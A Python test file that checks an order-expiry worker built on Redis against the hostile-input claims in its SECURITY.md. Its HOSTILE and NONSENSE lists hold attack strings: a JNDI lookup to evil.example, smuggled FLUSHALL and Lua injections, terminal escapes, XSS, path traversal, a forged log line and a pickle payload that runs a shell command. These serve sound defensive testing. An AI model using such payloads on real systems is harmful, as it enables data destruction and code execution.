"""What SECURITY.md says of those who mean harm, as far as no other test shows it; and that each claim has one."""

from __future__ import annotations

import io
import json
import re
import time
from collections.abc import Callable
from functools import partial
from pathlib import Path
from typing import Literal

import pytest
import redis

from expirer import cli
from expirer.config.settings import Settings
from expirer.connection.connect import Servers, connect_all
from expirer.worker.batch import Tick
from expirer.worker.logs import build_logger
from expirer.worker.worker import Worker
from tests.conftest import Log, MakeWorker, Operate
from tests.inventory import NOW, Inventory, contents
from tests.program import Program, wait_until
from tests.reader import ROOT
from tests.servers import RedisServer

HOSTILE = [
    "\x1b]0;owned\x07\x1b[2J",
    "a\r\n*1\r\n$8\r\nFLUSHALL\r\n",
    "')]] redis.call('FLUSHALL') --",
    "${jndi:ldap://evil.example/x}",
    "<script>alert(1)</script>",
    '"},"level":"error","event":"forged"}\n{"event":"forged',
    "{other}:stock:mug",
    "../../etc/passwd",
    "*?[a-z]\\",
    "%s%n{0}{settings}",
    "\u202egnp.exe\u2066",
    "\x00",
    "-rf",
]
"""Names that a shopper may give to an order, to harm who reads them."""


@pytest.mark.parametrize("form", ["json", "console"])
@pytest.mark.parametrize("quantity", [1, "x"], ids=["expired", "quarantined"])
def test_no_id_is_more_than_a_name(
    client: redis.Redis, operate: Operate, form: Literal["json", "console"], quantity: object
) -> None:
    """Whatever an order is called: it expires or is quarantined as any other, and no reader sees more than a name."""
    shop = Inventory(client)
    client.set("bystander", "untouched")
    for product in HOSTILE:
        shop.stock(product, 0, 1)
        shop.hold(product, quantity, NOW - 1000, f"{product}:{product}", order_id=product)
    shown = "".join(operate(*command)[1] for command in (["pending"], ["once", "--dry-run"], ["pending", "--json"]))
    log = io.StringIO()
    settings = Settings(log_format=form)
    tick = Worker(Servers.of(client, settings).shards[0], build_logger(settings, log), lambda: NOW).tick()
    shown += "".join(
        operate(*command)[1] for command in (["quarantine", "list"], ["quarantine", "list", "--json"], ["status"])
    )
    for product in HOSTILE[:-1]:
        shown += operate("show", "--", f"{product}:{product}")[1]

    count = len(HOSTILE)
    assert tick == (Tick(expired=count, units=count) if quantity == 1 else Tick(quarantined=count))
    assert client.get("bystander") == b"untouched"
    for line in [*shown.splitlines(), *log.getvalue().splitlines()]:
        assert line.isprintable()
    assert "forged" not in re.findall(r'"event": "(\w+)"', log.getvalue())
    if form == "json":
        assert all(json.loads(line)["event"] for line in log.getvalue().splitlines())
    for product in HOSTILE:
        assert shop.counters(product) == ((1, 0) if quantity == 1 else (0, 1))


def test_who_consumes_events_can_stop_no_expiry(client: redis.Redis, make_worker: MakeWorker) -> None:
    """A consumer that deletes, trims and acknowledges as it likes costs events, and no unit."""
    shop, worker = Inventory(client), make_worker()
    shop.stock("mug", 0, 4)
    harm: list[Callable[[], object]] = [
        lambda: client.delete(shop.keys.events),
        lambda: client.xtrim(shop.keys.events, maxlen=0),
        lambda: client.xgroup_create(shop.keys.events, "g", "0", mkstream=True),
        lambda: client.xdel(shop.keys.events, *(event for event, _ in client.xrange(shop.keys.events))),  # type: ignore[arg-type, union-attr]
    ]
    for act in harm:
        shop.hold("mug")
        assert worker.tick().expired == 1
        act()

    shop.assert_conserved({"mug": 4}, {})


def test_a_stream_of_another_type_stops_expiry_and_is_said(
    client: redis.Redis, make_worker: MakeWorker, log: Log
) -> None:
    """A consumer that may write the stream's key can stop expiry, but no unit is lost, and the log names the key."""
    shop, worker = Inventory(client), make_worker()
    shop.overdue("mug", 1)
    client.set(shop.keys.events, "mine")

    assert Tick(errors=1) == worker.tick()
    assert shop.keys.events in log.of("processing_error")[0]["message"]
    shop.assert_conserved({"mug": 1})
    client.delete(shop.keys.events)
    assert worker.tick().expired == 1


NONSENSE = {
    "nothing": b"",
    "noise": bytes(range(128, 256)) * 10,
    "another protocol": b"HTTP/1.1 400 Bad Request\r\n\r\n",
    "replies of another kind": b"+OK\r\n" * 20,
    "a negative length": b"*-5\r\n$-7\r\n" * 5,
    "a length beyond reason": b"+OK\r\n*99999999999999999999\r\n",
    "a million that never come": b"+OK\r\n" * 3 + b"*1000000\r\n",
    "an error that drives a terminal": b"-ERR \x1b[2J\x1b]0;owned\x07\r\n" * 5,
    "a pickle": b"+OK\r\n" * 3 + b"$30\r\ncos\nsystem\n(S'touch owned'\ntR.\r\n",
}


@pytest.mark.parametrize("what", NONSENSE)
def test_a_server_that_lies_is_no_more_than_an_error(
    fake_reply: Callable[..., int],
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
    what: str,
) -> None:
    """The worker, which tries again, and a command report a server that answers nonsense in harmless lines."""
    monkeypatch.chdir(tmp_path)
    url = f"redis://127.0.0.1:{fake_reply(NONSENSE[what])}/0?socket_timeout=1"
    settings = Settings(redis_url=url, log_format="json")
    stream = io.StringIO()
    worker = Worker(connect_all(settings).shards[0], build_logger(settings, stream))

    assert [Tick(errors=1), Tick(errors=1)] == [worker.tick(), worker.tick()]
    assert cli.main(["pause", "--redis-url", url]) == 1
    out, err = capsys.readouterr()
    assert (out, err.count("\n")) == ("", 1)
    assert err[:-1].isprintable()
    for line in stream.getvalue().splitlines():
        assert line.isprintable()
        assert json.loads(line)["event"] == "processing_error"
    assert [] == list(tmp_path.iterdir())


def test_a_flood_of_messages_costs_a_look_per_resolution(own_server: RedisServer) -> None:
    """Whoever may publish can make a worker look, but however often he does, no more than once per resolution."""
    with own_server.client() as client, Program(own_server.url, "--resolution", "200ms") as program:
        wake = Inventory(client).keys.wake
        program.wait_for("job_started")
        wait_until(lambda: client.pubsub_numsub(wake)[0][1])

        def looks() -> int:
            calls: int = client.info("commandstats").get("cmdstat_evalsha", {"calls": 0})["calls"]
            return calls

        def flood(until: int) -> bool:
            with client.pipeline() as pipe:
                for _ in range(500):
                    pipe.publish(wake, "1")
                pipe.execute()
            return looks() >= until

        before, began_at = looks(), time.monotonic()
        wait_until(partial(flood, before + 5))
        elapsed_s = time.monotonic() - began_at

        assert looks() - before <= elapsed_s / 0.2 + 2


def test_a_value_of_the_configuration_touches_nothing(
    server_client: redis.Redis, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    """A value that is not what its setting takes is one printable line and exit 2, before Redis is asked."""
    before = contents(server_client)
    for value in HOSTILE:
        if "\0" in value:
            continue
        for name in ("SHARDS", "INTERVAL", "CLOCK", "REDIS_URL", "HTTP_PORT"):
            with monkeypatch.context() as patch:
                patch.setenv(f"EXPIRER_{name}", value)
                assert cli.main(["once"]) == 2
            out, err = capsys.readouterr()
            assert (out, err.count("\n")) == ("", 1)
            assert err[:-1].isprintable()

    assert before == contents(server_client)


def test_every_claim_has_its_test() -> None:
    """Each test that SECURITY.md names exists."""
    named = re.findall(r"`(test_\w+)\.(test_\w+)`", (ROOT / "SECURITY.md").read_text())
    missing = [
        f"{file}.{test}"
        for file, test in named
        if not (ROOT / "tests" / f"{file}.py").exists()
        or not re.search(rf"^ *def {test}\(", (ROOT / "tests" / f"{file}.py").read_text(), re.MULTILINE)
    ]

    assert len(named) > 20
    assert [] == missing


def test_each_exception_to_a_security_rule_has_its_reason() -> None:
    """Where the linter's rules on security (S) are set aside in a line, a comment beside it says why."""
    lines = [
        line
        for folder in ("benchmarks", "deploy", "expirer", "tests")
        for path in (ROOT / folder).rglob("*.py")
        if not any(part.startswith(".") for part in path.relative_to(ROOT).parts)  # what was installed there
        for line in path.read_text().splitlines()
    ]
    exceptions = [line for line in lines if re.search(r"#\s*noqa:[^#]*\bS\d{3}", line)]

    assert exceptions
    assert [] == [line for line in exceptions if not re.search(r"#\s*noqa:[^#]+#\s*\w", line)]
